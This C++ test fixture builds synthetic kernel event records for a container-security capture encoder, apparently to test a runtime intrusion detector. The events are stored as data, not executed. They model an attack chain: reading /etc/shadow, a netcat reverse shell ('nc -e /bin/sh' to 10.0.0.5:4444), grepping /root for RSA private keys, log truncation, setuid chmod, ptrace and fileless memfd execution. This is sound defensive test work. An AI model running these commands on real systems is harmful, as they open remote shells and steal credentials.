#include "tests/capture/scenario.h"

#include <cstdlib>
#include <cstring>
#include <string_view>

#include "capture/scap_encoder.h"

namespace kilt::scap::scenario {

const char kContainerId[] = "3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e";

namespace {

std::string Sockaddr4(uint8_t a, uint8_t b, uint8_t c, uint8_t d, uint16_t port) {
  std::string s(16, '\0');
  s[0] = 2;  // AF_INET, little endian
  s[2] = static_cast<char>(port >> 8);
  s[3] = static_cast<char>(port & 0xff);
  s[4] = static_cast<char>(a);
  s[5] = static_cast<char>(b);
  s[6] = static_cast<char>(c);
  s[7] = static_cast<char>(d);
  return s;
}

struct Proc {
  int64_t pid;
  int64_t ppid;
  std::string exe, args, comm, exepath;
  uint32_t tty = 0;
  uint32_t exe_flags = 0;
};

class Recorder {
 public:
  explicit Recorder(uint64_t ts) : ts_(ts), buf_(1 << 16) {
    cgroups_ = "cpuset=/docker/" + std::string(kContainerId) + '\0' + "cpu=/docker/" +
               kContainerId + '\0' + "memory=/docker/" + kContainerId + '\0';
  }

  template <typename E>
  void Emit(int64_t tid, const E& e) {
    buf_.Clear();
    if (Encode(EventHeader{ts_, tid}, e, &buf_) != EncodeStatus::kOk) std::abort();
    events_.emplace_back(buf_.bytes());
    ts_ += 1000;
  }

  ProcessInfo Info(const Proc& p) const {
    ProcessInfo i;
    i.exe = p.exe;
    i.args = p.args;
    i.tid = p.pid;
    i.pid = p.pid;
    i.ptid = p.ppid;
    i.cwd = "/app";
    i.fdlimit = 1048576;
    i.vm_size_kb = 4096;
    i.vm_rss_kb = 1024;
    i.comm = p.comm;
    i.cgroups = cgroups_;
    i.env = std::string_view("PATH=/usr/local/bin:/usr/bin:/bin\0HOME=/root\0", 45);
    i.tty = p.tty;
    i.pgid = p.pid;
    i.vpgid = p.pid;
    i.exe_flags = p.exe_flags;
    i.cap_permitted = i.cap_effective = 0xa80425fb;  // docker's default set
    i.exe_ino = 1000 + static_cast<uint64_t>(p.pid);
    i.trusted_exepath = p.exepath;
    i.filename = p.exepath;
    i.vtid = p.pid;
    i.vpid = p.pid;
    return i;
  }

  // fork() in `parent`, then execve() of `child` in the new process.
  void Spawn(const Proc& parent, const Proc& child) {
    CloneExit c;
    c.kind = CloneKind::kFork;
    c.res = child.pid;
    c.proc = Info(parent);
    Emit(parent.pid, c);
    Proc inherited = parent;
    inherited.pid = child.pid;
    inherited.ppid = parent.pid;
    c.res = 0;
    c.proc = Info(inherited);
    Emit(child.pid, c);
    ExecveExit x;
    x.proc = Info(child);
    Emit(child.pid, x);
  }

  void Exit(const Proc& p, int status) { Emit(p.pid, ProcExit{status << 8, 0}); }

  std::vector<std::string> Take() { return std::move(events_); }

 private:
  uint64_t ts_;
  OwnedEventBuffer buf_;
  std::string cgroups_;
  std::vector<std::string> events_;
};

std::string Args(std::initializer_list<const char*> args) {
  std::string s;
  for (const char* a : args) s += std::string(a) + '\0';
  return s;
}

}  // namespace

std::vector<std::string> Events(uint64_t base_ts, int64_t pid_base) {
  Recorder r(base_ts);
  const int64_t b = pid_base;
  const Proc kiltrun{1, 0, "/kilt/run", Args({"--", "/app/server"}), "kilt-run", "/kilt/run"};
  const Proc app{b + 100, 1, "/app/server", "", "server", "/app/server"};
  r.Spawn(kiltrun, app);

  // An interactive shell reads /etc/shadow.
  Proc bash{b + 101, b + 100, "bash", Args({"-i"}), "bash", "/usr/bin/bash", 34816};
  r.Spawn(app, bash);
  OpenatExit shadow;
  shadow.fd = 3;
  shadow.name = "/etc/shadow";
  shadow.flags = 02000000;  // O_RDONLY|O_CLOEXEC
  r.Emit(bash.pid, shadow);
  r.Emit(bash.pid, CloseExit{0, 3});

  // cat /etc/shadow, from the app (an untrusted program reading a sensitive file).
  Proc cat{b + 102, b + 100, "cat", Args({"/etc/shadow"}), "cat", "/usr/bin/cat"};
  r.Spawn(app, cat);
  r.Emit(cat.pid, shadow);
  r.Emit(cat.pid, CloseExit{0, 3});
  r.Exit(cat, 0);

  // nc -e /bin/sh 10.0.0.5 4444: a reverse shell, its socket redirected onto stdin.
  Proc nc{b + 103, b + 100, "nc", Args({"-e", "/bin/sh", "10.0.0.5", "4444"}), "nc", "/usr/bin/nc"};
  r.Spawn(app, nc);
  r.Emit(nc.pid, SocketExit{3, 2, 1, 6});
  std::string local = Sockaddr4(172, 17, 0, 2, 40000), remote = Sockaddr4(10, 0, 0, 5, 4444);
  ConnectExit conn;
  conn.fd = 3;
  conn.ends = {local, remote};
  conn.addr = remote;
  r.Emit(nc.pid, conn);
  r.Emit(nc.pid, DupExit{DupKind::kDup2, 0, 3, 0, 0});

  // grep for private keys.
  Proc grep{b + 104, b + 100,        "grep", Args({"-r", "BEGIN RSA PRIVATE", "/root"}),
            "grep",  "/usr/bin/grep"};
  r.Spawn(app, grep);
  r.Exit(grep, 1);

  // Symlink and hard link over sensitive files, a truncated log, an unlink and a rename.
  Proc sh{b + 105, b + 100, "sh", Args({"-c", "ln -s /etc/shadow /tmp/p"}), "sh", "/usr/bin/dash"};
  r.Spawn(app, sh);
  r.Emit(sh.pid, SymlinkatExit{0, "/etc/shadow", -100, "/tmp/p"});
  r.Emit(sh.pid, LinkatExit{0, -100, "/etc/shadow", -100, "/tmp/s", 0});
  OpenatExit log;
  log.fd = 4;
  log.name = "/var/log/app.log";
  log.flags = 01 | 01000;  // O_WRONLY|O_TRUNC
  r.Emit(sh.pid, log);
  r.Emit(sh.pid, UnlinkatExit{0, -100, "/tmp/p", 0});
  r.Emit(sh.pid, RenameExit{0, "/tmp/a", "/tmp/b"});
  r.Emit(sh.pid, ChdirExit{0, "/tmp"});
  r.Emit(sh.pid, ChmodExit{0, "/tmp/b", 04755});
  r.Emit(sh.pid, MkdirExit{0, "/tmp/d", 0755});
  r.Exit(sh, 0);

  // A packet socket, a ptrace attach, a setuid and a mount attempt.
  Proc tool{b + 106, b + 100, "tool", "", "tool", "/app/tool"};
  r.Spawn(app, tool);
  r.Emit(tool.pid, SocketExit{5, 17, 3, 0x300});  // AF_PACKET, SOCK_RAW, ETH_P_ALL
  r.Emit(tool.pid, PtraceExit{-1, 16, 1, 0, 0});  // PTRACE_ATTACH to pid 1: EPERM under Kilt
  r.Emit(tool.pid, SetuidExit{-1, 0});
  r.Emit(tool.pid, MountExit{-1, "/dev/sda1", "/mnt", "ext4", 0});
  r.Emit(tool.pid, MemfdCreateExit{6, "payload", 1});
  r.Exit(tool, 0);

  // Fileless execution: the program runs from a memfd.
  Proc fileless{b + 107, b + 100, "payload", "", "payload", "/memfd:payload (deleted)", 0, 4};
  r.Spawn(app, fileless);

  // Execution from /dev/shm.
  Proc shm{b + 108, b + 100, "/dev/shm/x", "", "x", "/dev/shm/x"};
  r.Spawn(app, shm);
  r.Exit(shm, 0);

  return r.Take();
}

}  // namespace kilt::scap::scenario
